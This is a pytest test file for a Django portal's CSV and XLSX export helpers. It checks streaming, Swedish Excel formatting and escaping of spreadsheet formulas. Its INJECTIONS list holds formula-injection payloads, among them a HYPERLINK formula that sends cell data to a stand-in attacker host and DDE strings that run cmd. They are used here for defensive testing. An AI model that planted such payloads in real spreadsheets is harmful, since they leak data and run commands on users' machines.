"""The shared export pieces (portal/exports.py): cells that never run as formulas, CSV with a
BOM and `;` for Swedish Excel, streamed row by row, and XLSX written in constant memory."""

import csv
import datetime
import io
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.http import StreamingHttpResponse
from django.utils import translation
from django.utils.translation import gettext_lazy

from portal.exports import BOM, cell_text, csv_lines, csv_response, safe_cell, xlsx_write

STOCKHOLM = ZoneInfo("Europe/Stockholm")
INJECTIONS = [
    '=HYPERLINK("http://angripare.example/?d="&A1,"Klicka här")',
    "+46 70 123 45 67",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=";"))


@pytest.mark.parametrize("value", INJECTIONS)
def test_a_cell_that_would_run_as_a_formula_is_shown_as_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    ("value", "expected"),
    [("Åsa på Ängö", "Åsa på Ängö"), ("a=b", "a=b"), (None, ""), (12, "12"), ("", "")],
)
def test_other_cells_are_left_as_they_are(value, expected):
    assert safe_cell(value) == expected


def test_cell_text_writes_iso_days_and_local_minutes():
    moment = datetime.datetime(2026, 6, 1, 22, 30, tzinfo=datetime.UTC)

    assert cell_text(datetime.date(2026, 3, 4)) == "2026-03-04"
    # 22:30 UTC is 00:30 the next day in Stockholm (summer time)
    assert cell_text(moment) == "2026-06-02 00:30"
    assert cell_text(None) == ""


def test_csv_starts_with_the_bom_and_separates_with_semicolons():
    text = "".join(csv_lines(["Enhet", "Händelse"], [("BoU", "Kallelsen kom två dagar före")]))

    assert text.startswith(BOM)
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")
    assert _parse(text.removeprefix(BOM)) == [
        ["Enhet", "Händelse"],
        ["BoU", "Kallelsen kom två dagar före"],
    ]


def test_csv_cells_are_safe_and_keep_line_breaks_and_separators():
    rows = [(value, "rad 1\nrad 2; med semikolon") for value in INJECTIONS]

    text = "".join(csv_lines(["Värde", "Text"], rows))

    parsed = _parse(text.removeprefix(BOM))
    assert [row[0] for row in parsed[1:]] == ["'" + value for value in INJECTIONS]
    assert {row[1] for row in parsed[1:]} == {"rad 1\nrad 2; med semikolon"}


def test_csv_response_streams_the_rows_as_they_are_read():
    pulled = []

    def rows():
        for number in range(5):
            pulled.append(number)
            yield (number, "Östhammar")

    # when the response is made, sending two rows a chunk
    response = csv_response(header=["Nr", "Ort"], rows=rows(), filename="x.csv", rows_per_chunk=2)

    # then nothing is read until the response is consumed, and then a chunk at a time
    assert isinstance(response, StreamingHttpResponse)
    assert pulled == []
    chunks = iter(response.streaming_content)
    assert next(chunks).decode() == BOM + "Nr;Ort\r\n"
    assert pulled == []
    assert next(chunks).decode() == "0;Östhammar\r\n1;Östhammar\r\n"
    assert pulled == [0, 1]
    assert [chunk.decode() for chunk in chunks] == [
        "2;Östhammar\r\n3;Östhammar\r\n",
        "4;Östhammar\r\n",
    ]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert response["Cache-Control"] == "private, no-store"


def test_closing_the_stream_closes_the_rows():
    closed = []

    def rows():
        try:
            for number in range(1000):
                yield (number,)
        finally:
            closed.append(True)

    lines = csv_lines(["Nr"], rows(), rows_per_chunk=10)
    next(lines)
    next(lines)

    lines.close()

    assert closed == [True]


def test_csv_response_translates_the_header_before_streaming():
    # given a header asked for in English
    with translation.override("en"):
        response = csv_response(header=[gettext_lazy("Date")], rows=[], filename="x.csv")

    # when the stream is read after the request's language is gone (Swedish is the default)
    with translation.override("sv"):
        content = b"".join(response.streaming_content).decode("utf-8-sig")

    # then the header is in the language of the request
    assert content == "Date\r\n"


def test_xlsx_keeps_text_as_text_and_types_as_types(tmp_path):
    path = tmp_path / "export.xlsx"
    moment = datetime.datetime(2026, 1, 15, 8, 5, tzinfo=datetime.UTC)
    rows = [
        (1, datetime.date(2026, 1, 14), moment, "Åsa på Ängö", None, 3),
        *[(2, None, None, value, "", None) for value in INJECTIONS],
    ]

    written = xlsx_write(
        path,
        sheet_name="Avvikelser",
        header=["Nr", "Dag", "Tid", "Text", "Tom", "Dagar"],
        rows=rows,
    )

    assert written == len(rows)
    sheet = openpyxl.load_workbook(path).active
    assert sheet.title == "Avvikelser"
    assert [cell.value for cell in sheet[1]] == ["Nr", "Dag", "Tid", "Text", "Tom", "Dagar"]
    first = [cell.value for cell in sheet[2]]
    assert first[0] == 1
    assert first[1].isoformat() == "2026-01-14T00:00:00"
    assert first[2].isoformat() == "2026-01-15T09:05:00"  # local time, Stockholm
    assert first[3] == "Åsa på Ängö"
    assert first[4] is None
    assert first[5] == 3
    for row, value in zip(sheet.iter_rows(min_row=3), INJECTIONS, strict=True):
        # a string cell holding the text exactly, never a formula
        assert row[3].data_type == "s"
        # OOXML stores a carriage return as _x000D_, which Excel shows as one; openpyxl reads
        # the stored form.
        assert row[3].value == value.replace("\r", "_x000D_")
    assert sheet.freeze_panes == "A2"


def test_xlsx_writes_rows_as_they_come_and_reports_progress(tmp_path):
    seen = []

    def rows():
        for number in range(2500):
            yield (number, f"rad {number}")

    written = xlsx_write(
        tmp_path / "big.xlsx",
        sheet_name="x",
        header=["Nr", "Text"],
        rows=rows(),
        on_progress=seen.append,
        progress_every=1000,
    )

    assert written == 2500
    assert seen == [1000, 2000]
    sheet = openpyxl.load_workbook(tmp_path / "big.xlsx", read_only=True).active
    assert sheet.max_row == 2501


def test_xlsx_writes_to_an_open_file():
    buffer = io.BytesIO()

    xlsx_write(buffer, sheet_name="x", header=["Ort"], rows=[("Motala",)])

    buffer.seek(0)
    assert openpyxl.load_workbook(buffer).active["A2"].value == "Motala"
